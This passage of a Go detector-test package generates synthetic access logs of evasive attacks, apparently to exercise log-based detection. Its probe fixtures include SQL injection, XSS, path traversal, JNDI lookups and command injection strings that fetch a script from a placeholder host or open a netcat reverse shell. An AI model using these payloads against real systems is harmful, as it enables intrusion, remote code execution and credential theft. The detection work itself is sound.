package detect

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"time"
)

// evasions are the forms that attackers give to what attacks has, who know that logs are
// read: other addresses, other programs, other spellings, other methods, amid what is
// usual, just above what is counted and just below it.
func evasions(add adder) {
	evadeLogins(add)
	evadeKeys(add)
	evadeEnumeration(add)
	evadeProbes(add)
	evadeAccess(add)
	evadeExfiltration(add)
	evadeTokens(add)
}

// agent is one of very many user agents.
func agent(i int) string {
	return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36", 90+i%60, 1000+7*i, i)
}

// jwt is a token with claims.
func jwt(claims string) string {
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(`{"alg":"RS256","typ":"JWT"}`)) + "." + enc([]byte(claims)) + "." + enc([]byte("signature-of-no-key-at-all-0123456789"))
}

func evadeLogins(add adder) {
	// One machine has a /64 of addresses, one customer a /48 of those.
	add("brute force through a /64", "evasive", "brute-force-ip brute-force-account", func(s *scene, at time.Time) {
		ips := s.sixes(60, false)
		s.each(at, 60, 5*time.Second, func(i int) entry { return failedLogin(ips[i], s.user(), agent(i)) })
	})
	add("stuffing through a /64", "evasive", "credential-stuffing", func(s *scene, at time.Time) {
		ips := s.sixes(40, false)
		s.each(at, 40, 10*time.Second, func(i int) entry {
			return failedLogin(ips[i], fmt.Sprintf("six%d@example.net", i), agent(i))
		})
	})
	add("spray through a /48", "evasive", "password-spray", func(s *scene, at time.Time) {
		ips := s.sixes(30, true)
		s.exact(at, 30, 100*time.Second, func(i int) entry {
			return failedLogin(ips[i], fmt.Sprintf("fortyeight%d@example.net", i), agent(i))
		})
	})
	// The shapes of logins, and of their failures.
	shape := func(name, uri string, status int) {
		add("brute force of "+name, "evasive", "brute-force-ip", func(s *scene, at time.Time) {
			ip := s.one()
			s.each(at, 40, 3*time.Second, func(int) entry {
				return entry{ip: ip, method: "POST", uri: uri, status: status, bytes: 4321, ua: chrome}
			})
		})
	}
	shape("WordPress", "/wp-login.php", 200)
	shape("WordPress below a folder", "/blog/wp-login.php?redirect_to=%2Fblog%2Fwp-admin%2F", 200)
	shape("Devise", "/users/sign_in", 422)
	shape("Devise before 4.9", "/users/sign_in", 200)
	shape("Devise for admins", "/admins/sign_in", 200)
	shape("Django admin", "/admin/login/?next=/admin/", 200)
	shape("Keycloak", "/realms/acme/login-actions/authenticate?session_code=x&execution=y&client_id=app&tab_id=z", 200)
	shape("Keycloak below auth", "/auth/realms/acme/login-actions/authenticate?session_code=x&execution=y", 200)
	shape("Keycloak's token endpoint", "/realms/acme/protocol/openid-connect/token", 401)
	shape("ASP.NET Identity pages", "/Identity/Account/Login", 200)
	shape("OAuth, password grant", "/oauth/token", 400)
	shape("Entra-like tenants", "/acme.example/oauth2/v2.0/token", 400)
	shape("Supabase", "/auth/v1/token?grant_type=password", 400)
	shape("Auth.js", "/api/auth/callback/credentials", 401)
	shape("Laravel JSON", "/api/login", 422)
	shape("Rails JSON sessions", "/api/v1/sessions.json", 401)
	shape("sessions", "/api/v2/session", 403)
	shape("locked", "/api/v1/auth/login", 423)
	shape("login, other spelling", "//api/v1/auth//login/", 401)
	shape("login, encoded", "/api/v1/auth/log%69n", 401)
	shape("login, upper case", "/API/V1/Auth/LOGIN", 401)
	shape("login, matrix parameter", "/api/v1/auth/login;jsessionid=0A1B", 401)
	shape("login, dot segment", "/api/v1/x/../auth/login", 401)
	shape("login.php", "/login.php", 401)
	shape("login.aspx", "/Login.aspx", 401)
	shape("login.do", "/app/login.do", 403)
	shape("log in with a code", "/api/v1/auth/mfa/verify", 401)
	shape("log in with a one-time code", "/api/v1/auth/login/otp", 401)
	flood := func(name string, entryOf func(i int) entry) {
		add("brute force answered as if it had worked, "+name, "evasive", "login-flood", func(s *scene, at time.Time) {
			ip := s.one()
			s.each(at, 60, 3*time.Second, func(i int) entry {
				e := entryOf(i)
				e.ip, e.method = ip, "POST"
				return e
			})
		})
	}
	flood("ASP.NET Identity", func(i int) entry {
		return entry{uri: "/Account/Login?ReturnUrl=%2F", bytes: 5120 + int64(i%7), ua: chrome}
	})
	flood("302 to everything", func(i int) entry { return entry{uri: "/login", status: 302, ua: agent(i)} })
	flood("login.php", func(i int) entry { return entry{uri: "/login.php", bytes: 3071, ua: chrome} })
	flood("XML-RPC", func(i int) entry { return entry{uri: "/xmlrpc.php", bytes: 403, ua: agent(i)} })
	flood("a form that is fetched for its token", func(i int) entry {
		return entry{uri: "/users/login", status: 302, referer: "https://app.example.com/users/login", ua: python}
	})
	add("brute force that shows the form again", "evasive", "login-flood", func(s *scene, at time.Time) { // a login answers 302 to both
		ip := s.one()
		s.each(at, 60, 3*time.Second, func(i int) entry {
			if i%2 == 1 {
				return entry{ip: ip, uri: "/login?error", bytes: 4321, ua: chrome}
			}
			return entry{ip: ip, method: "POST", uri: "/login", status: 302, ua: chrome}
		})
	})
	add("basic authentication", "fast", "brute-force-ip", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 60, 2*time.Second, func(i int) entry {
			return entry{ip: ip, user: "admin", uri: "/private/", status: 401, ua: "Mozilla/4.0 (Hydra)"}
		})
	})
	add("brute force, the name in other spellings", "evasive", "brute-force-account", func(s *scene, at time.Time) {
		ips := s.spread(14)
		s.exact(at, 14, 4*time.Minute, func(i int) entry {
			user := s.user()
			if i%2 == 1 {
				user = "ACCOUNT" + user[len("account"):]
			}
			return failedLogin(ips[i], user, agent(i))
		})
	})
	add("brute force, one guess an hour", "slow", "brute-force-account", func(s *scene, at time.Time) {
		ips := s.spread(40)
		s.exact(at.Add(-24*time.Hour), 40, 35*time.Minute, func(i int) entry { return failedLogin(ips[i], s.user(), agent(i)) })
	})
	add("five guesses in five minutes", "low-volume", "brute-force-ip", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 5, 75*time.Second, func(int) entry { return failedLogin(ip, s.user(), chrome) })
	})
	add("brute force amid one's own logins", "evasive", "brute-force-ip", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 80, 4*time.Second, func(i int) entry {
			if i%3 == 2 {
				return entry{ip: ip, user: s.user(), method: "POST", uri: "/api/v1/auth/login", ua: chrome}
			}
			return failedLogin(ip, "victim@example.net", chrome)
		})
	})
	add("stuffing that succeeds at times", "evasive", "credential-stuffing", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 60, 8*time.Second, func(i int) entry {
			if i%10 == 7 {
				return entry{ip: ip, user: fmt.Sprintf("hit%d@example.net", i), method: "POST", uri: "/api/v1/auth/login", ua: agent(i)}
			}
			return failedLogin(ip, fmt.Sprintf("try%d@example.net", i), agent(i))
		})
	})
	add("spray, one of three gets in", "evasive", "password-spray", func(s *scene, at time.Time) {
		ips := s.hosts(25)
		s.exact(at, 35, 100*time.Second, func(i int) entry {
			if i%5 == 4 {
				return entry{ip: ips[i%25], user: fmt.Sprintf("weak%d@example.net", i), method: "POST", uri: "/api/v1/auth/login", ua: chrome}
			}
			return failedLogin(ips[i%25], fmt.Sprintf("spray%d@example.net", i), chrome)
		})
	})
	add("distributed stuffing through homes", "evasive", "distributed-brute-force", func(s *scene, at time.Time) { // each address twice
		ips := s.spread(150)
		s.each(at, 300, 3*time.Second, func(i int) entry {
			return failedLogin(ips[i%150], fmt.Sprintf("home%d@example.net", i), agent(i%150))
		})
	})
	add("distributed guessing of one account", "distributed", "distributed-brute-force brute-force-account", func(s *scene, at time.Time) {
		ips := s.spread(60)
		s.each(at, 60, 8*time.Second, func(i int) entry { return failedLogin(ips[i], s.user(), agent(i)) })
	})
	add("a login now and then", "low-volume", "", func(s *scene, at time.Time) {
		ips := s.spread(9)
		s.exact(at, 9, 8*time.Minute, func(i int) entry { return failedLogin(ips[i], s.user(), chrome) })
	})
	add("login through Tor to the admin pages", "low-volume", "suspicious-network", func(s *scene, at time.Time) {
		s.add(at, entry{ip: s.tor(), user: s.user(), uri: "/admin/users", ua: chrome})
	})
}

func evadeKeys(add adder) {
	key := func(s *scene) string { return fmt.Sprintf("ak_live_%032x", 104_659*s.label) }
	add("key guessing through a /64", "evasive", "key-invalid/high", func(s *scene, at time.Time) {
		ips := s.sixes(40, false)
		s.each(at, 40, 8*time.Second, func(i int) entry {
			return entry{ip: ips[i], key: fmt.Sprintf("ak_live_%032x", 32_452_843*(i+1)), uri: "/api/v1/me", status: 401, ua: agent(i)}
		})
	})
	add("key guessing in the query", "evasive", "key-invalid/high", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 40, 8*time.Second, func(i int) entry {
			return entry{ip: ip, uri: fmt.Sprintf("/api/v1/me?api_key=ak_live_%032x", 86_028_121*(i+1)), status: 401, ua: agent(i)}
		})
	})
	add("key guessing answered 403", "evasive", "key-invalid/high", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 40, 8*time.Second, func(i int) entry {
			return entry{ip: ip, key: fmt.Sprintf("ak_live_%032x", 49_979_687*(i+1)), uri: "/api/v1/me", status: 403, ua: chrome}
		})
	})
	add("token guessing", "evasive", "key-invalid/high", func(s *scene, at time.Time) {
		ip := s.one()
		s.each(at, 40, 8*time.Second, func(i int) entry {
			return entry{ip: ip, token: fmt.Sprintf("gst%029x", 67_867_967*(i+1)), uri: "/api/v1/me", status: 401, ua: chrome}
		})
	})
	add("stolen key, paced by a pool", "evasive", "key-rate", func(s *scene, at time.Time) { // v6, a pool of addresses
		home := s.home()
		for m := range 60 {
			s.exact(at.Add(time.Duration(m-60)*15*time.Minute), 6, 9*time.Second, func(int) entry {
				return entry{ip: home, key: key(s), ua: "billing/3.1", uri: "/api/v1/me"}
			})
		}
		ips := s.sixes(90, true)
		s.exact(at, 90, 600*time.Millisecond, func(i int) entry {
			return entry{ip: ips[i], key: key(s), ua: "billing/3.1", uri: fmt.Sprintf("/api/v1/orders/%d", s.rand.IntN(1_000_000))}
		})
	})
	add("stolen key below its own pace", "low-volume", "", func(s *scene, at time.Time) {
		home := s.home()
		for m := range 60 {
			s.exact(at.Add(time.Duration(m-60)*15*time.Minute), 20, 2*time.Second, func(int) entry {
				return entry{ip: home, key: key(s), ua: "billing/3.1", uri: "/api/v1/me"}
			})
		}
		s.exact(at.Add(time.Minute), 55, time.Second, func(int) entry { return entry{ip: home, key: key(s), ua: "billing/3.1", uri: "/api/v1/me"} })
	})
	add("key on new routes, amid the usual", "evasive", "key-routes", func(s *scene, at time.Time) {
		e := entry{ip: s.home(), key: key(s), ua: "billing/3.1"}
		s.history(at, 3, 300, e)
		routes := []string{"/api/v1/users", "/api/v1/exports/full", "/api/v1/audit-log", "/api/v1/invoices/1001", "/api/v1/integrations"}
		s.exact(at, 40, 14*time.Second, func(i int) entry {
			h := e
			if h.uri = "/api/v1/me"; i%8 == 3 {
				h.uri = routes[i/8]
			}
			return h
		})
	})
	add("key from a new country by IPv6", "low-volume", "key-geo", func(s *scene, at time.Time) {
		e := entry{ip: s.home(), key: key(s), ua: "billing/3.1"}
		s.history(at, 2, 200, e)
		e.ip, e.uri = s.sixes(1, false)[0], "/api/v1/me"
		s.add(at.Add(time.Hour), e)
	})
	add("beyond the limits through a /64", "evasive", "rate-limit", func(s *scene, at time.Time) {
		ips := s.sixes(50, false)
		s.each(at, 50, time.Second, func(i int) entry { return entry{ip: ips[i], uri: "/api/v1/search?q=a", status: 429, ua: python} })
	})
}

func evadeEnumeration(add adder) {
	word := func(i int) string {
		return fmt.Sprintf("/%s-%d", []string{"private", "intern", "api/v0", "beta/x", "dump", "stage"}[i%6], i)
	}
	missing := func(detector, name, form string, n int, step time.Duration, of func(s *scene, i int, ips []string) entry, ips func(s *scene) []string) {
		add("word list, "+name, form, detector, func(s *scene, at time.Time) {
			from := ips(s)
			s.exact(at, n, step, func(i int) entry {
				e := of(s, i, from)
				e.status = 404
				if e.uri == "" {
					e.uri = word(i)
				}
				if e.ip == "" {
					e.ip = from[i%len(from)]
				}
				return e
			})
		})
	}
	one := func(s *scene) []string { return s.hosts(1) }
	missing("enumeration", "through a /64", "evasive", 60, 2*time.Second, func(_ *scene, i int, _ []string) entry { return entry{ua: chrome} },
		func(s *scene) []string { return s.sixes(60, false) })
	missing("enumeration", "another user agent each", "evasive", 60, 2*time.Second, func(_ *scene, i int, _ []string) entry { return entry{ua: agent(i)} }, one)
	missing("enumeration", "by HEAD and OPTIONS", "evasive", 60, 2*time.Second, func(_ *scene, i int, _ []string) entry {
		return entry{method: []string{"HEAD", "OPTIONS", "POST", "PUT"}[i%4], ua: chrome}
	}, one)
	missing("enumeration", "in odd spellings", "evasive", 60, 2*time.Second, func(_ *scene, i int, _ []string) entry {
		return entry{uri: []string{"/" + word(i), "/%2e" + word(i), word(i) + "/", word(i) + ";x=1", "/." + word(i)}[i%5], ua: chrome}
	}, one)
	missing("masked-enumeration", "another session each", "evasive", 90, 2*time.Second, func(s *scene, i int, _ []string) entry {
		return entry{session: fmt.Sprintf("%032x", s.rand.Uint64()), ua: chrome}
	}, one)
	missing("masked-enumeration", "another token each", "evasive", 90, 2*time.Second, func(s *scene, i int, _ []string) entry {
		return entry{token: fmt.Sprintf("opaque%026x", s.rand.Uint64()), ua: chrome}
	}, one)
	missing("masked-enumeration", "another key each", "evasive", 90, 2*time.Second, func(s *scene, i int, _ []string) entry {
		return entry{key: fmt.Sprintf("ak_live_%032x", s.rand.Uint64()), ua: chrome}
	}, one)
	missing("masked-enumeration", "another user each", "evasive", 90, 2*time.Second, func(_ *scene, i int, _ []string) entry {
		return entry{user: fmt.Sprintf("nobody%d", i), ua: chrome}
	}, one)
	missing("enumeration", "with suffixes of images", "evasive", 60, 2*time.Second, func(_ *scene, i int, _ []string) entry {
		return entry{uri: []string{word(i) + ";a.svg", "/.well-known/%2e%2e" + word(i)}[i%2], ua: chrome}
	}, one)
	missing("enumeration", "named as images", "evasive", 60, 2*time.Second, func(_ *scene, i int, _ []string) entry {
		return entry{uri: word(i) + "/.well-known/" + fmt.Sprint(i) + "/../x", ua: chrome}
	}, one)
	missing("enumeration", "logged in", "evasive", 40, 7*time.Second, func(s *scene, i int, ips []string) entry {
		return entry{ip: ips[i%len(ips)], user: s.user(), token: "eye" + s.user(), ua: agent(i)}
	}, func(s *scene) []string { return s.spread(10) })
	add("word list answered 403 and 404", "slow", "slow-scan", func(s *scene, at time.Time) {
		ips := s.sixes(140, false)
		s.exact(at, 140, 9*time.Minute, func(i int) entry {
			return entry{ip: ips[i], uri: word(i), status: 403 + i%2, ua: agent(i)}
		})
	})
	add("word list over a day, below its limit", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 95, 14*time.Minute, func(i int) entry { return entry{ip: ip, uri: word(i), status: 404, ua: chrome} })
	})

	walk := func(name, form string, n int, step time.Duration, entryOf func(s *scene, i int) entry) {
		add("counting through ids, "+name, form, "sequential-ids", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, n, step, func(i int) entry {
				e := entryOf(s, i)
				e.ip, e.ua = ip, python
				if e.user == "" && e.key == "" {
					e.user = s.user()
				}
				return e
			})
		})
	}
	walk("downwards", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/api/v1/orders/%d", 88_400-i)} })
	walk("with gaps", "evasive", 30, 5*time.Second, func(s *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/api/v1/orders/%d", 77_000+i+(i/4))}
	})
	walk("shuffled", "evasive", 60, 4*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/api/v1/orders/%d", 66_000+(i*37)%60)} })
	walk("in a parameter", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/api/v1/invoice?id=%d&format=pdf", 4100+i)}
	})
	walk("in a named parameter", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/api/v1/orders?include=lines&customer_id=%d", 5100+i)}
	})
	walk("in a nested parameter", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/api/v1/orders?filter%%5Buser_id%%5D=%d", 5100+i)}
	})
	walk("in a parameter called by another name", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/download.php?invoice=%d", 5100+i)}
	})
	walk("in the middle of a path", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/api/v1/users/%d/documents", 2100+i)} })
	walk("as files", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/files/invoices/%d.pdf", 31_000+i)} })
	walk("as named files", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/files/invoice-%d.pdf", 31_000+i)} })
	walk("with a prefix", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/api/v1/orders/ORD-%d", 31_000+i)} })
	walk("with leading zeros", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry { return entry{uri: fmt.Sprintf("/api/v1/tickets/%08d", 31_000+i)} })
	walk("by HEAD", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{method: "HEAD", uri: fmt.Sprintf("/api/v1/orders/%d", 55_000+i), status: []int{200, 404}[i%2]}
	})
	walk("by POST", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{method: "POST", uri: fmt.Sprintf("/api/v1/orders/%d/receipt", 55_000+i)}
	})
	walk("in odd spellings", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf([]string{"/api/v1/orders/%d", "/api//v1/orders/%d/", "/api/v1/orders/%d;x=1"}[i%3], 57_000+i)}
	})
	walk("in another spelling each", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf([]string{"/api/v1/orders/%d", "/API/v1/orders/%d", "/api/V1/Orders/%d", "/api/v1/%%6frders/%d", "/api/v1/./orders/%d", "/api/v1/x/../orders/%d"}[i%6], 56_000+i)}
	})
	walk("percent-encoded", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/api/v1/orders/%%35%d", 7_000+i)}
	})
	walk("with a key", "evasive", 30, 5*time.Second, func(s *scene, i int) entry {
		return entry{key: fmt.Sprintf("ak_live_%032x", 613*s.label), uri: fmt.Sprintf("/api/v1/orders/%d", 58_000+i)}
	})
	walk("amid other objects", "evasive", 60, 4*time.Second, func(s *scene, i int) entry {
		if i%2 == 0 {
			return entry{uri: fmt.Sprintf("/api/v1/orders/%d", 100_000+s.rand.IntN(9_000_000))}
		}
		return entry{uri: fmt.Sprintf("/api/v1/orders/%d", 59_000+i/2)}
	})
	walk("of snowflakes", "evasive", 30, 5*time.Second, func(_ *scene, i int) entry {
		return entry{uri: fmt.Sprintf("/api/v1/messages/%d", 1_200_000_000_000_000_000+i)}
	})
	add("counting through ids, from a /64", "evasive", "sequential-ids", func(s *scene, at time.Time) {
		ips := s.sixes(40, false)
		s.exact(at, 40, 4*time.Second, func(i int) entry {
			return entry{ip: ips[i], uri: fmt.Sprintf("/api/v1/public/%d", 12_000+i), ua: agent(i)}
		})
	})
	turns := func(name, form string, step time.Duration, from func(s *scene, i int) entry) {
		add("counting through ids, "+name, form, "distributed-ids", func(s *scene, at time.Time) {
			s.exact(at, 60, step, func(i int) entry {
				e := from(s, i)
				e.uri = fmt.Sprintf("/api/v1/invoices/%d", 11_000+i)
				return e
			})
		})
	}
	turns("from another address each", "distributed", 2*time.Second, func(s *scene, i int) entry {
		return entry{ip: s.spread(60)[i], ua: agent(i), status: []int{404, 403, 404}[i%3]}
	})
	turns("from eight addresses in turn", "slow", 12*time.Second, func(s *scene, i int) entry {
		return entry{ip: s.spread(8)[i%8], ua: python, status: 200 + 204*(i%2)}
	})
	turns("as another user each", "evasive", 4*time.Second, func(s *scene, i int) entry {
		return entry{ip: s.one(), user: fmt.Sprintf("made-up%d-%d@example.com", s.label, i), ua: chrome}
	})
	turns("with another session each", "evasive", 4*time.Second, func(s *scene, i int) entry {
		return entry{ip: s.one(), session: fmt.Sprintf("%032x", 7919*s.label+i), ua: chrome}
	})
	add("counting through ids, too slowly", "low-volume", "", func(s *scene, at time.Time) {
		ip := s.one()
		s.exact(at, 30, 40*time.Second, func(i int) entry {
			return entry{ip: ip, user: s.user(), uri: fmt.Sprintf("/api/v1/orders/%d", 44_000+i), ua: chrome}
		})
	})
	sweep := func(name string, id func(s *scene, i int) string) {
		add("sweep of "+name, "evasive", "object-sweep", func(s *scene, at time.Time) {
			ips := s.spread(5)
			s.each(at, 680, 5*time.Second, func(i int) entry {
				return entry{ip: ips[i%5], user: s.user(), uri: id(s, i), ua: agent(i % 9)}
			})
		})
	}
	sweep("UUIDv7", func(s *scene, i int) string {
		return fmt.Sprintf("/api/v1/attachments/0195%04x-%04x-7%03x-9%03x-%012x", i, s.rand.IntN(1<<16), s.rand.IntN(1<<12), s.rand.IntN(1<<12), s.rand.Uint64N(1<<48))
	})
	sweep("hashes", func(s *scene, i int) string {
		return fmt.Sprintf("/api/v1/blobs/%016x%016x", s.rand.Uint64(), s.rand.Uint64())
	})
	sweep("short hex ids", func(s *scene, i int) string { return fmt.Sprintf("/api/v1/notes/%08x", s.rand.Uint32()) })
	sweep("snowflakes", func(s *scene, i int) string {
		return fmt.Sprintf("/api/v1/messages/%d", 1_100_000_000_000_000_000+s.rand.Int64N(1<<56))
	})
	sweep("ids in a parameter", func(s *scene, i int) string {
		return fmt.Sprintf("/api/v1/attachment?attachment_id=%08x-0000-4000-8000-%012x", s.rand.Uint32(), s.rand.Uint64N(1<<48))
	})
	sweep("people by e-mail", func(s *scene, i int) string { return fmt.Sprintf("/api/v1/lookup/person%d%%40example.net", i) })

	known := func(name string, uris ...string) {
		add("well-known paths, "+name, "evasive", "undocumented", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, len(uris), 20*time.Second, func(i int) entry {
				return entry{ip: ip, uri: uris[i], status: 404, ua: agent(i), method: []string{"GET", "HEAD"}[i%2]}
			})
		})
	}
	known("doubled slashes", "//.env", "/.git//config", "//actuator///env")
	known("encoded", "/%2eenv", "/%2e%67it/config", "/actuator%2fenv")
	known("encoded twice", "/%252eenv", "/%252egit/config", "/.aws%252fcredentials")
	known("upper case", "/.ENV", "/.GIT/CONFIG", "/Actuator/Env")
	known("in folders", "/api/.env", "/app/.git/config", "/backend/.aws/credentials")
	known("with matrix parameters", "/actuator;x=1/env", "/.env;a", "/actuator/heapdump;.css")
	known("behind dots", "/static/../.env", "/./.git/config", "/x/..;/actuator/env")
	known("other names of secrets", "/.env.production", "/.env.local.bak", "/.env~", "/config/.env.old")
	known("dumps", "/backup.zip", "/db.sql.gz", "/site.tar.gz")
	add("well-known paths through a /64", "evasive", "undocumented", func(s *scene, at time.Time) {
		ips := s.sixes(4, false)
		s.exact(at, 4, 20*time.Second, func(i int) entry {
			return entry{ip: ips[i], uri: []string{"/.env", "/.git/config", "/.aws/credentials", "/phpinfo.php"}[i], status: 404, ua: agent(i)}
		})
	})
	add("campaign by IPv6", "distributed", "coordinated", func(s *scene, at time.Time) {
		var ips []string
		for i := range 6 {
			net := fmt.Sprintf("2001:db8:%x:", 0x8000+16*s.label+i)
			s.network(net+":/48", "US", 4_000_000+uint32(16*s.label+i), 40.7, -74, 0)
			ips = append(ips, net+":5")
		}
		s.exact(at, 18, 150*time.Second, func(i int) entry {
			return entry{ip: ips[i%6], uri: []string{"/geoserver/ows", "/console/css/x", "/api/jsonws/invoke"}[i/6] + fmt.Sprint(s.label), status: 404, ua: agent(i)}
		})
	})
}

func evadeProbes(add adder) {
	q := url.QueryEscape
	probe := func(name, form string, entries ...entry) {
		add(name, form, "probe", func(s *scene, at time.Time) {
			ip := s.one()
			s.exact(at, len(entries), 3*time.Second, func(i int) entry {
				e := entries[i]
				e.ip = ip
				if e.ua == "" {
					e.ua = chrome
				}
				if e.uri == "" {
					e.uri = "/"
				}
				return e
			})
		})
	}
	param := func(text string) entry { return entry{uri: "/api/v1/items?filter=" + q(text)} }
	probe("SQL injection, boolean", "low-volume", param("1 AND 1=1"))
	probe("SQL injection, boolean without spaces", "evasive", param("1)and(1)=(1"))
	probe("SQL injection, quoted boolean", "low-volume", param("x' AND '1'='1"))
	probe("SQL injection, stacked", "low-volume", param("1; DROP TABLE users--"))
	probe("SQL injection, time", "low-volume", param("1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -"))
	probe("SQL injection, pg_sleep", "low-volume", param("1;SELECT pg_sleep(10)--"))
	probe("SQL injection, waitfor", "low-volume", param("1'; WAITFOR DELAY '0:0:5'--"))
	probe("SQL injection, comments", "evasive", param("-1'/**/uNiOn/**/aLl/**/sElEcT/**/1,2,3--+"))
	probe("SQL injection, error based", "low-volume", param("1 AND extractvalue(1,concat(0x7e,(select version())))"))
	probe("SQL injection in a path", "evasive", entry{uri: "/api/v1/items/1'%20OR%20'1'='1"})
	probe("SQL injection in the user agent", "evasive", entry{ua: "Mozilla/5.0' AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)-- "})
	probe("SQL injection in the referer", "evasive", entry{referer: "https://example.org/?q=" + q("1' UNION SELECT NULL,NULL-- -")})
	probe("SQL injection in a parameter's name", "evasive", entry{uri: "/api/v1/items?" + q("id' OR '1'='1") + "=1"})
	probe("cross-site scripting, handlers", "evasive", param(`<details open ontoggle=alert(1)>`))
	probe("cross-site scripting, javascript URL", "low-volume", param(`javascript:alert(document.domain)`))
	probe("cross-site scripting, attribute", "low-volume", param(`" autofocus onfocus=alert(1) x="`))
	probe("cross-site scripting, entities", "evasive", param(`<a href="jav&#x09;ascript:alert(1)">x</a>`))
	probe("cross-site scripting in a path", "evasive", entry{uri: "/search/%3Cscript%3Ealert(1)%3C/script%3E", status: 404})
	probe("path traversal in a path", "low-volume", entry{uri: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"})
	probe("path traversal, dotted", "evasive", entry{uri: "/static/....//....//....//etc/passwd"})
	probe("path traversal, overlong", "evasive", entry{uri: "/..%c0%af..%c0%af..%c0%afetc/passwd"})
	probe("path traversal, absolute", "low-volume", entry{uri: "/download?file=/etc/passwd"})
	probe("path traversal, null byte", "evasive", entry{uri: "/download?file=../../../../etc/passwd%00.png"})
	probe("path traversal, wrapper", "evasive", entry{uri: "/index.php?page=php://filter/convert.base64-encode/resource=index"})
	probe("path traversal, Windows", "evasive", entry{uri: `/download?file=C:\Windows\win.ini`})
	probe("command injection, backticks", "evasive", entry{uri: "/ping?host=" + q("`id`")})
	probe("command injection, newline", "evasive", entry{uri: "/ping?host=" + q("127.0.0.1\nwget http://198.51.100.3/a.sh")})
	probe("command injection, and", "low-volume", entry{uri: "/ping?host=" + q("x && whoami")})
	probe("command injection, pipe", "low-volume", entry{uri: "/ping?host=" + q("x | nc 198.51.100.3 4444 -e /bin/sh")})
	probe("shellshock", "evasive", entry{ua: "() { :; }; /bin/bash -c 'curl http://198.51.100.3/x'"})
	probe("JNDI in a parameter", "evasive", entry{uri: "/?x=" + q("${jndi:ldap://198.51.100.3/a}")})
	probe("JNDI, nested lookups", "evasive", entry{referer: "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://198.51.100.3/a}"})
	probe("JNDI in a path", "evasive", entry{uri: "/$%7Bjndi:dns://198.51.100.3/a%7D", status: 404})
	probe("template injection, Jinja", "low-volume", param("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"))
	probe("template injection, ERB", "low-volume", param("<%= 7*7 %>"))
	probe("template injection, Freemarker", "low-volume", param(`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`))
	probe("template injection, OGNL", "evasive", entry{uri: "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/"})
	probe("class loader", "evasive", entry{uri: "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"})
	probe("PHP code", "low-volume", entry{uri: "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", method: "POST"})
	probe("ThinkPHP", "evasive", entry{uri: `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x`})
	probe("NoSQL injection", "evasive", entry{uri: "/api/v1/users?password%5B%24ne%5D=1&user=admin"})
	probe("LDAP injection", "evasive", param("*)(uid=*))(|(uid=*"))
	probe("CRLF injection", "evasive", entry{uri: "/redirect?to=%0d%0aSet-Cookie:%20admin=1"})
	probe("XXE", "evasive", param(`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`))
	for _, ua := range []string{"Nikto/2.5.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
		"gobuster/3.6", "feroxbuster/2.10", "DirBuster-1.0-RC1", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "masscan/1.3", "Fuzz Faster U Fool v2.1.0-dev",
		"Wfuzz/3.1.0", "Mozilla/5.0 zgrab/0.x", "Acunetix-Product: WVS", "commix/v3.9", "ZmEu", "Arachni/v1.5.1", "Mozilla/5.0 (compatible; Nessus SOAP)", "jaeles", "dirsearch", "WhatWeb/0.5.5"} {
		probe("scanner "+ua, "low-volume", entry{ua: ua})
	}

	ssrf := func(name, form, uri string) {
		add("SSRF "+name, form, "ssrf", func(s *scene, at time.Time) {
			s.add(at, entry{ip: s.one(), user: s.user(), method: "POST", uri: uri, status: 201, ua: python})
		})
	}
	meta := q("http://169.254.169.254/latest/meta-data/")
